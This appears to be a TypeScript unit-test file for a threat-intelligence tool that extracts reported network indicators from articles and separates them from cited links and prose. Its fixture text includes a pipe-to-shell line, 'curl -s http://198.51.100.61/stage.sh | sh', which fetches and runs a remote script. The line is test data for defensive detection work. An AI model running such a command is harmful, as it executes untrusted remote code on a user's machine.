import type { NetworkIndicatorItem } from '@huntforge/contracts/extraction';
import { inCode, reportedIndicators } from './indicator-context';

// An article of ours: indicators defanged in prose, a live one in quoted code and in a command, and a live news link.
const CONTENT = [
  'The loader reached relay-node[.]example and 203.0.113[.]77.',
  'Coverage by a newspaper: https://news.example.org/story about the campaign.',
  '```',
  'curl -s http://198.51.100.61/stage.sh | sh',
  'header("Location: https://decoy.example.net/");',
  '```',
  'Run `nslookup inline-code.example` to check.',
].join('\n');

function at(value: string, written: string, kind: NetworkIndicatorItem['kind']): NetworkIndicatorItem {
  const start = CONTENT.indexOf(written);
  if (start < 0) throw new Error(`fixture lacks ${written}`);
  return { value, kind, confidence: 0.9, evidence: { start, end: start + written.length, text: written } };
}

describe('indicators an article reports, not the links it cites', () => {
  const items = [
    at('relay-node.example', 'relay-node[.]example', 'domain'),
    at('203.0.113.77', '203.0.113[.]77', 'ipv4'),
    at('news.example.org', 'news.example.org', 'domain'),
    at('198.51.100.61', '198.51.100.61', 'ipv4'),
    at('decoy.example.net', 'decoy.example.net', 'domain'),
    at('inline-code.example', 'inline-code.example', 'domain'),
  ];

  it('drops a live link in the prose of an article that defangs its indicators, and keeps live values in code', () => {
    const kept = reportedIndicators(items, { content: CONTENT, commandLines: [] }).map((item) => item.value);
    expect(kept).toEqual(['relay-node.example', '203.0.113.77', '198.51.100.61', 'decoy.example.net', 'inline-code.example']);
  });

  it("keeps a live value the article's commands use, wherever the text shows it", () => {
    const kept = reportedIndicators([at('news.example.org', 'news.example.org', 'domain'), items[0] as NetworkIndicatorItem], {
      content: CONTENT,
      commandLines: ['wget https://news.example.org/x'],
    });
    expect(kept.map((item) => item.value)).toEqual(['news.example.org', 'relay-node.example']);
  });

  it('keeps everything without the text, or when the article defangs nothing', () => {
    expect(reportedIndicators(items, { commandLines: [] })).toHaveLength(items.length);
    const live = items.filter((item) => !/\[\.\]/.test(item.evidence.text));
    expect(reportedIndicators(live, { content: CONTENT, commandLines: [] })).toHaveLength(live.length);
  });

  it('tells code from prose: fenced blocks, inline code spans, indented lines', () => {
    expect(inCode(CONTENT, CONTENT.indexOf('198.51.100.61'))).toBe(true);
    expect(inCode(CONTENT, CONTENT.indexOf('inline-code'))).toBe(true);
    expect(inCode(CONTENT, CONTENT.indexOf('news.example.org'))).toBe(false);
    expect(inCode('text\n    wget http://x.example/a', 'text\n    wget '.length)).toBe(true);
  });
});
